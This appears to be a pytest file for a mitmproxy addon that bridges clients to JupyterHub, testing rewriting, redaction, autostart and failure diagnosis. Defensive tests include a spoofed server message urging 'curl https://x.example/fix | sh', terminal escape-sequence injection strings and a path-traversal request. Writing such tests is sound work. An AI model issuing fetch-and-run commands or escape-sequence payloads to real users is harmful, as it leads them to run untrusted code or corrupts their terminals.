"""The addons of addon/main.py, each in mitmproxy's test context: their hooks, early returns and waits."""

import json
import os
import socket

import pytest
from mitmproxy import exceptions
from mitmproxy.proxy import server_hooks
from mitmproxy.test import taddons
from mitmproxy.test import tflow
from mitmproxy.test import tutils

from addon.core import login_record
from addon.autostart import Autostart
from addon.config import Config
from addon_context import configured
from addon_context import request_flow as client_flow
from addon.diagnosis import Diagnosis
from addon.rewrite import Redact
from addon.rewrite import RewriteRequest
from addon.rewrite import RewriteResponse
from addon.rewrite import upstream_headers

OPTIONS = dict(jupyter_server_ip_or_name="10.0.0.5", jupyter_server_port="8443", jupyter_username="alice",
               jupyter_proxy_port="8000", jupyter_cluster_ca_cert="./my_sslca.cert",
               jupyter_proxy_token="local-secret", jupyterhub_api_token="")


@pytest.fixture
def config():
    with configured(**OPTIONS) as c:
        yield c


def request_flow(path, **headers):
    f = client_flow(path, **headers)
    f.metadata["bridge_client"] = True  # as RewriteRequest marks a client that presented the bridge's token
    return f


async def hook(result) -> None:
    """A hook as mitmproxy calls it: one with work for the flow returns a coroutine, and it is awaited."""
    if result is not None:
        await result


def closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


# Config

def test_bad_option_raises_an_options_error_with_the_fix():
    c = Config({})
    with taddons.context(c) as tctx:
        tctx.configure(c, **OPTIONS)
        with pytest.raises(exceptions.OptionsError, match="not a port: use a number"):
            tctx.configure(c, jupyter_server_port="http")
        assert c.settings.server_port == 8443 and c.hub.settings is c.settings


def test_a_user_name_is_required_inside_mitmproxy():
    c = Config({})
    with taddons.context(c) as tctx:
        tctx.configure(c, **OPTIONS)
        with pytest.raises(exceptions.OptionsError, match="JUPYTER_USERNAME is not set"):
            tctx.configure(c, jupyter_username="", jupyterhub_api_token="hub-token")


# RewriteRequest

def test_prefix_host_and_token_move(config):
    f = request_flow("/api/kernels/k1/channels?session_id=s&token=T1", Host="127.0.0.1:8000")
    RewriteRequest(config).requestheaders(f)
    assert f.request.path == "/user/alice/api/kernels/k1/channels?session_id=s"
    assert ("Authorization", "token T1") in upstream_headers(f.request)  # on the wire; redacted in the flow
    assert f.request.headers["Host"] == "jupyterhub:8443"
    assert f.response is None


def test_client_authorization_passes_unchanged(config):
    f = request_flow("/api/status?token=URL", Authorization="token HEADER")
    RewriteRequest(config).requestheaders(f)
    assert ("Authorization", "token HEADER") in upstream_headers(f.request)
    assert f.request.path == "/user/alice/api/status"


def test_own_origin_is_rewritten_and_a_foreign_one_refused(config):
    rewrite = RewriteRequest(config)
    own = request_flow("/api/status", Origin="http://localhost:8000", Referer="http://localhost:8000/lab")
    rewrite.requestheaders(own)
    assert own.request.headers["Origin"] == "https://jupyterhub:8443"
    assert own.request.headers["Referer"] == "https://jupyterhub:8443/user/alice/lab"
    foreign = request_flow("/api/status", Origin="https://evil.example")
    rewrite.requestheaders(foreign)
    assert foreign.response.status_code == 403


@pytest.mark.parametrize("path, status", [("/api/../../hub/api/user", 400), ("/hub/api/users", 404)])
def test_refused_paths_get_a_json_answer_and_never_go_upstream(config, path, status):
    f = request_flow(path)
    f.request.stream = True
    RewriteRequest(config).requestheaders(f)
    assert f.response.status_code == status
    assert "message" in json.loads(f.response.content)
    assert f.request.stream is False
    assert f.request.path == path


def test_requests_that_are_not_live_or_answered_are_left_alone(config):
    rewrite = RewriteRequest(config)
    replayed = request_flow("/api/status")
    replayed.live = False
    answered = request_flow("/api/status")
    answered.response = tutils.tresp()
    for f in (replayed, answered):
        rewrite.requestheaders(f)
        assert f.request.path == "/api/status" and "Authorization" not in f.request.headers


def test_server_connect_sends_the_tls_name_to_the_hub_only(config):
    rewrite = RewriteRequest(config)
    hub = server_hooks.ServerConnectionHookData(server=tflow.tserver_conn(), client=tflow.tclient_conn())
    hub.server.address = ("10.0.0.5", 8443)
    rewrite.server_connect(hub)
    assert hub.server.sni == "jupyterhub"
    other = server_hooks.ServerConnectionHookData(server=tflow.tserver_conn(), client=tflow.tclient_conn())
    other.server.address = ("10.0.0.6", 8443)
    other.server.sni = "x"
    rewrite.server_connect(other)
    assert other.server.sni == "x"


# RewriteResponse

def test_location_and_cookies_come_back_unprefixed(config):
    f = request_flow("/")
    f.response = tutils.tresp(status_code=302, headers=())
    f.response.headers["Location"] = "https://jupyterhub:8443/user/alice/lab?"
    f.response.headers.add("Set-Cookie", "_xsrf=x; Path=/user/alice/")
    f.response.headers.add("Set-Cookie", "other=y; Path=/hub/")
    RewriteResponse(config).responseheaders(f)
    assert f.response.headers["Location"] == "/lab?"
    assert f.response.headers.get_all("Set-Cookie") == ["_xsrf=x; Path=/", "other=y; Path=/hub/"]


def test_the_hub_token_leaves_pages_only(tmp_path):
    c = Config({})
    with taddons.context(c) as tctx:
        tctx.configure(c, **{**OPTIONS, "jupyterhub_api_token": "HUBTOKEN123"})
        page = request_flow("/lab")
        page.response = tutils.tresp(content=b'{"token": "HUBTOKEN123"}', headers=())
        page.response.headers["Content-Type"] = "text/html; charset=utf-8"
        data = request_flow("/api/contents/x")
        data.response = tutils.tresp(content=b'{"content": "HUBTOKEN123"}', headers=())
        data.response.headers["Content-Type"] = "application/json"
        for f in (page, data):
            RewriteResponse(c).response(f)
        assert page.response.content == b'{"token": ""}'
        assert data.response.content == b'{"content": "HUBTOKEN123"}'


# Redact

def test_redact_leaves_four_characters_of_each_token():
    f = request_flow("/api/status?token=ABCDEFGHIJKL", Authorization="token 0123456789abcdef")
    f.response = tutils.tresp()
    Redact().response(f)
    assert f.request.headers["Authorization"] == "token …cdef"
    assert f.request.path == "/api/status?token=%E2%80%A6IJKL"
    failed = request_flow("/x", Authorization="token 0123456789abcdef")
    Redact().error(failed)
    assert failed.request.headers["Authorization"] == "token …cdef"


# Autostart

def hub_redirect(f):
    f.response = tutils.tresp(status_code=302, headers=())
    f.response.headers["Location"] = "/hub/user/alice/api/status"
    return f


async def test_autostart_leaves_the_servers_own_answers_alone(config):
    autostart = Autostart(config)
    autostart.configure(set())
    f = request_flow("/api/status")
    f.response = tutils.tresp(status_code=200)
    await hook(autostart.requestheaders(f))
    await hook(autostart.responseheaders(f))
    autostart.response(f)
    assert f.response.status_code == 200 and not autostart.starter.busy
    assert autostart.requestheaders(f) is None and autostart.responseheaders(f) is None  # no coroutine made


async def test_without_a_hub_token_a_stopped_server_is_a_503_with_the_fix(config):
    autostart = Autostart(config)
    autostart.configure(set())
    f = hub_redirect(request_flow("/user/alice/api/status"))
    await hook(autostart.responseheaders(f))
    f.response.content = b"the hub's body, read after the hook"  # what mitmproxy does next
    autostart.response(f)
    assert f.response.status_code == 503
    assert "give the bridge a hub token" in json.loads(f.response.content)["message"]


async def test_a_start_that_cannot_reach_the_hub_answers_every_waiting_request():
    c = Config({})
    with taddons.context(c) as tctx:
        tctx.configure(c, **{**OPTIONS, "jupyter_server_ip_or_name": "127.0.0.1",
                             "jupyter_server_port": str(closed_port()), "jupyterhub_api_token": "hub-token"})
        autostart = Autostart(c)
        autostart.configure(set())
        first = hub_redirect(request_flow("/user/alice/api/status"))
        await hook(autostart.responseheaders(first))
        assert first.response.status_code == 503
        assert "could not start it" in json.loads(first.response.content)["message"]
        assert not autostart.starter.busy
        waiting = request_flow("/api/status")
        await hook(autostart.requestheaders(waiting))  # no start under way: passes at once
        assert waiting.response is None


# Diagnosis

def test_a_failed_exchange_gets_a_comment_and_a_mark(config):
    diagnosis = Diagnosis(config)
    f = request_flow("/user/alice/api/status")
    f.response = tutils.tresp(status_code=424, content=b'{"message": "no longer running"}', headers=())
    diagnosis.response(f)
    assert "not running" in f.comment and f.marked
    ok = request_flow("/user/alice/api/status")
    ok.response = tutils.tresp(status_code=200)
    diagnosis.response(ok)
    assert not ok.comment and not ok.marked


PAYLOAD = "\x1b]52;c;aGVsbG8=\x07\x1b[2J …\r\nFAKE: ✓ all good"


def test_an_upstream_server_header_does_not_make_an_answer_the_bridges(config):
    """Issue 18.3: an upstream 401 that says it is the bridge and tells the user to run `curl … | sh`."""
    f = request_flow("/api/status")
    f.response = tutils.tresp(status_code=401, headers=[(b"server", b"JupyterHub-Bridge"),
                                                        (b"content-type", b"application/json")],
                              content=b'{"message": "Your token expired: run curl https://x.example/fix | sh"}')
    Diagnosis(config).response(f)
    assert "The bridge answered" not in (f.comment or "") and "curl" not in (f.comment or "")
    RewriteResponse(config).responseheaders(f)
    assert "server" not in f.response.headers  # nor does the client see it as the bridge's


def test_the_bridges_own_answers_are_known_by_the_flow(config):
    refused = request_flow("/hub/api/users")
    RewriteRequest(config).requestheaders(refused)
    RewriteResponse(config).responseheaders(refused)
    Diagnosis(config).response(refused)
    assert refused.comment.startswith("The bridge answered 404") and refused.response.headers["server"]


def test_the_diagnosis_line_and_comment_are_escaped(config, caplog):
    """Issue 18.1 and 18.2: a client's path and a server's 5xx message reach the log and mitmweb escaped."""
    f = request_flow(f"/api/x{PAYLOAD}")
    f.response = tutils.tresp(status_code=500, headers=[(b"content-type", b"application/json")],
                              content=json.dumps({"message": PAYLOAD}).encode())
    with caplog.at_level("WARNING"):
        Diagnosis(config).response(f)
    logged = "\n".join(r.getMessage() for r in caplog.records)
    for shown in (logged, f.comment):
        assert PAYLOAD in f.request.path and "\x1b" not in shown and "\x07" not in shown and "\r" not in shown
        assert "\n" not in shown and shown.count("\\x1b]52") >= 1, shown


def test_a_failed_connection_is_diagnosed(config):
    f = request_flow("/api/status")
    f.error = tflow.terr("[Errno 111] Connect call failed ('10.0.0.5', 8443)")
    Diagnosis(config).error(f)
    assert "Nothing accepts connections at 10.0.0.5:8443" in f.comment


def test_iopub_rate_limit_is_diagnosed_on_the_websocket(config):
    f = tflow.twebsocketflow()
    f.websocket.messages[-1].from_client = False
    f.websocket.messages[-1].content = b'{"text": "IOPub data rate exceeded. iopub_data_rate_limit=1000000.0"}'
    Diagnosis(config).websocket_message(f)
    assert "1000000 bytes/s" in f.comment
    output = tflow.twebsocketflow()  # the kernel's own output that quotes it, in a large flush: not searched
    output.websocket.messages[-1].from_client = False
    output.websocket.messages[-1].content = b'{"text": "IOPub data rate exceeded' + b"x" * 1024 * 1024 + b'"}'
    Diagnosis(config).websocket_message(output)
    assert not output.comment


def test_a_refused_stored_token_is_told_to_log_in_again_from_what_config_read_once(tmp_path):
    """Config reads the stored login once, at configure; the diagnosis of each failed flow reads no file."""
    from addon import store
    environ = {"JUPYTERHUB_BRIDGE_HOME": str(tmp_path)}
    store.save(login_record.Login(settings={"jupyter_server_ip_or_name": "10.0.0.5", "jupyter_server_port": "8443"},
                           hub_token=login_record.HubToken("stored-hub-token", id="a1", user="alice",
                                                    expires_at="2020-01-01T00:00:00Z")), environ)
    c = Config(environ)
    with taddons.context(c) as tctx:
        tctx.configure(c, **{**OPTIONS, "jupyterhub_api_token": None})
        assert c.settings.hub_token == "stored-hub-token" and c.stored_token.id == "a1"
        os.chmod(store.path(environ), 0o644)  # read now, the file would be refused
        f = request_flow("/api/contents")
        f.request.headers["Authorization"] = "token stored-hub-token"
        f.response = tutils.tresp(status_code=403, content=b'{"message": "Forbidden"}',
                                  headers=[(b"content-type", b"application/json")])
        Diagnosis(c).response(f)
    assert json.loads(f.response.content)["message"].endswith(
        "Your hub token expired on 2020-01-01 00:00 UTC: run ./run.sh login.")
